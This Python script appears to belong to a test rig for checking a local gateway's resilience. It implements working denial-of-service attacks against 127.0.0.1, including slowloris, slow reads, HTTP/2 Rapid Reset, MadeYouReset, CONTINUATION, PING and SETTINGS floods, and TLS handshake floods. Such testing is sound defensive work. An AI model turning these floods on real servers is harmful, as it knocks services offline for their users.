#!/usr/bin/env python3
"""One attack on a gateway on this machine, from other loopback addresses.

It says "ready" when it stands, goes on until SIGTERM or for `--seconds`, and takes no more than
`--share` of a CPU; then it says what it did.
"""

import argparse
import itertools
import json
import signal
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from attacks import http2  # noqa: E402  (found only now)
from rig import machine  # noqa: E402

HELD = "/api/v2/echo/held"
LARGE = "/api/v2/recordings/1/media?bytes=1000000000"
ME = "/api/v2/organizations/me"
ADDRESSES = [f"127.0.0.{number}" for number in range(2, 42)]
# Of one write of a flood.
FRAMES = 500


class Over(Exception):
    """It is time to end."""


class Attack:
    def __init__(self, port: int, share: float, seconds: float):
        self.port, self.share = port, share
        self.begun = time.monotonic()
        self.end = self.begun + seconds
        self.stopped = False
        self.addresses = itertools.cycle(ADDRESSES)
        self.did = dict.fromkeys(("connections", "ended", "sent"), 0)

    def stop(self, *_):
        self.stopped = True

    def pause(self, seconds: float = 0):
        """Waits so long, and until no more than the share of a CPU is used."""
        used = time.process_time() / self.share - (time.monotonic() - self.begun)
        deadline = time.monotonic() + max(seconds, used)
        while True:
            if self.stopped or time.monotonic() > self.end:
                raise Over
            left = deadline - time.monotonic()
            if left <= 0:
                return
            time.sleep(min(left, 0.05))

    def ready(self):
        # What it took to get here does not count.
        self.begun = time.monotonic() - time.process_time() / self.share
        print("ready", flush=True)

    def connect(self, first: bytes = b"", room: int | None = None) -> socket.socket:
        connection = socket.socket()
        if room:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, room)
        connection.settimeout(2)
        connection.bind((next(self.addresses), 0))
        connection.connect(("127.0.0.1", self.port))
        connection.sendall(first)
        self.did["connections"] += 1
        return connection

    def crowd(self, count: int, first: bytes, room: int | None = None,
              answered: bool = False) -> list[socket.socket]:
        """So many connections that have said this."""
        crowd = []
        for number in range(count):
            crowd.append(self.connect(first, room))
            if answered and not crowd[-1].recv(4096):
                raise SystemExit(f"attacker: connection {number} was refused")
            if number % 50 == 49:
                self.pause(0.005)
        return crowd

    def drip(self, crowd: list[socket.socket], first: bytes, piece: bytes):
        """A piece on each connection each second; who is cut comes back."""
        parts = 20
        for part in itertools.cycle(range(parts)):
            for place in range(part, len(crowd), parts):
                try:
                    crowd[place].sendall(piece)
                    self.did["sent"] += 1
                except OSError:
                    self.did["ended"] += 1
                    crowd[place].close()
                    try:
                        crowd[place] = self.connect(first)
                    except OSError:
                        pass
            self.pause(1 / parts)

    def flood(self, opening: bytes, pieces: Iterator[bytes], read: bool = False):
        """Pieces without end on one connection after the other; each begins `pieces` anew."""
        while True:
            try:
                connection = self.connect(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0) + opening)
            except OSError:
                self.pause(0.05)
                continue
            with connection:
                # Where nothing more goes out, the next connection is worth more than this one.
                connection.settimeout(0.2)
                try:
                    for piece in pieces():
                        connection.sendall(piece)
                        self.did["sent"] += len(piece)
                        if read:
                            self.drain(connection)
                        self.pause()
                except OSError:
                    self.did["ended"] += 1
            self.pause()

    @staticmethod
    def drain(connection: socket.socket):
        patience = connection.gettimeout()
        connection.settimeout(0)
        try:
            while connection.recv(1 << 16):
                pass
        except BlockingIOError:
            pass
        connection.settimeout(patience)


def slowloris(attack: Attack, count: int):
    first = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
    crowd = attack.crowd(count, first)
    attack.ready()
    attack.drip(crowd, first, b"y")


def slow_body(attack: Attack, count: int):
    first = b"POST /api/v2/echo/slow HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n"
    first += b"." * 8192
    crowd = attack.crowd(count, first)
    attack.ready()
    attack.drip(crowd, first, b".")


def slow_read(attack: Attack, count: int):
    crowd = attack.crowd(count, f"GET {LARGE} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode(), 2048)
    attack.ready()
    hold(attack, crowd)


def slow_read_http2(attack: Attack, count: int):
    """A hundred answers on each connection, all of which may come, and none is taken."""
    gets = b"".join(http2.get(number * 2 + 1, LARGE) for number in range(100))
    crowd = attack.crowd(count, http2.wide_open() + gets, 2048)
    attack.ready()
    hold(attack, crowd)


def idle(attack: Attack, count: int):
    crowd = attack.crowd(count, f"GET {ME} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode(),
                         answered=True)
    attack.ready()
    hold(attack, crowd)


def hold(attack: Attack, crowd: list[socket.socket]):
    try:
        while True:
            attack.pause(0.5)
    finally:
        for connection in crowd:
            try:
                connection.send(b"")
                error = connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            except OSError:
                error = 1
            attack.did["ended"] += bool(error)


def streams(one: Callable[[int], bytes]) -> Callable[[], Iterator[bytes]]:
    """The same on each stream of a connection. Made once: to send is all that it costs then."""
    made = [
        b"".join(one((start + number) * 2 + 1) for number in range(FRAMES))
        for start in range(0, 100 * FRAMES, FRAMES)
    ]
    return lambda: iter(made)


def again(piece: bytes) -> Callable[[], Iterator[bytes]]:
    return lambda: itertools.repeat(piece * FRAMES)


def rapid_reset(attack: Attack, _: int):
    cancel = struct.pack(">I", http2.CANCEL)
    pieces = streams(lambda stream: http2.get(stream, HELD)
                     + http2.frame(http2.RST_STREAM, 0, stream, cancel))
    attack.ready()
    attack.flood(b"", pieces)


def made_you_reset(attack: Attack, _: int):
    """A window beyond what one may be: the gateway has to reset the stream."""
    most = struct.pack(">I", http2.MOST)
    pieces = streams(lambda stream: http2.get(stream, HELD)
                     + http2.frame(http2.WINDOW_UPDATE, 0, stream, most))
    attack.ready()
    attack.flood(b"", pieces)


def continuation(attack: Attack, _: int):
    opening = http2.frame(http2.HEADERS, http2.END_STREAM, 1, http2.head("GET", "/"))
    fields = http2.literals([("x", "y" * 100)])
    attack.ready()
    attack.flood(opening, again(http2.frame(http2.CONTINUATION, 0, 1, fields)))


def ping(attack: Attack, _: int):
    attack.ready()
    attack.flood(b"", again(http2.frame(http2.PING, 0, 0, bytes(8))))


def ping_read(attack: Attack, _: int):
    """The answers are read: nothing gathers that would end the connection."""
    attack.ready()
    attack.flood(b"", again(http2.frame(http2.PING, 0, 0, bytes(8))), read=True)


def settings(attack: Attack, _: int):
    attack.ready()
    attack.flood(b"", again(http2.frame(http2.SETTINGS, 0, 0, http2.setting(3, 9))))


def handshakes(attack: Attack, count: int):
    """The first flight of TLS, again and again; the gateway signs, nobody verifies."""
    out = ssl.MemoryBIO()
    context = ssl.create_default_context()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = out.read()
    attack.ready()
    while True:
        crowd = []
        for _ in range(count):
            try:
                crowd.append(attack.connect(hello))
            except OSError:
                attack.did["ended"] += 1
        for connection in crowd:
            with connection:
                try:
                    attack.did["sent"] += bool(connection.recv(1))
                except OSError:
                    attack.did["ended"] += 1
        attack.pause()


def spin(attack: Attack, _: int):
    """No attack: the same share of a CPU, spent on nothing."""
    attack.ready()
    while True:
        sum(range(10_000))
        attack.pause()


def main():
    attacks = {each.__name__: each for each in (
        slowloris, slow_body, slow_read, slow_read_http2, idle, rapid_reset, made_you_reset,
        continuation, ping, ping_read, settings, handshakes, spin)}
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=attacks)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--count", type=int, default=0, help="connections, of those that are held")
    parser.add_argument("--share", type=float, default=1.0, help="of a CPU")
    parser.add_argument("--seconds", type=float, default=30)
    options = parser.parse_args()
    machine.allow_many_files()
    attack = Attack(options.port, options.share, options.seconds)
    for number in (signal.SIGTERM, signal.SIGINT):
        signal.signal(number, attack.stop)
    try:
        attacks[options.attack](attack, options.count)
    except Over:
        pass
    print(json.dumps(attack.did), flush=True)


if __name__ == "__main__":
    main()
